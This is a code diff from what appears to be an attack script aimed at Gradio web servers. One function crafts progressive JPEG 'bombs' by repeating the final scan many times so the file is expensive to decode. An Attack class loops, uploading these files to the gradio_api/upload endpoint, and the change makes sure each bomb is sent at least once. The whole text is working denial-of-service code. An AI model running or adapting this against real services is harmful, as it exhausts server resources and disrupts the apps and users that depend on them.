@@ -49,7 +49,7 @@ def client(url: str, last: int) -> httpx.Client:
 def many_scans(side_px: int, scans: int) -> bytes:
     """A progressive JPEG whose last scan comes again and again."""
     file = io.BytesIO()
-    Image.radial_gradient("L").resize((side_px, side_px)).convert("RGB").save(file, "JPEG", progressive=True)
+    Image.new("RGB", (side_px, side_px), (90, 120, 60)).save(file, "JPEG", progressive=True)
     content = file.getvalue()
     last = content.rindex(b"\xff\xda")
     return content[:-2] + content[last:-2] * scans + content[-2:]
@@ -92,7 +92,7 @@ class Attack:
         made = list(self.bombs.items())
         with client(self.url, 2) as web:
             number = 0
-            while not self.ended.wait(1.0):
+            while not self.ended.wait(1.0) or number < len(made):  # each of them once, at least
                 name, content = made[number % len(made)]
                 kept = self.sent(web, "bombs", "gradio_api/upload", files={"files": (name, content)})
                 path = kept.json()[0] if kept.status_code == 200 else ""
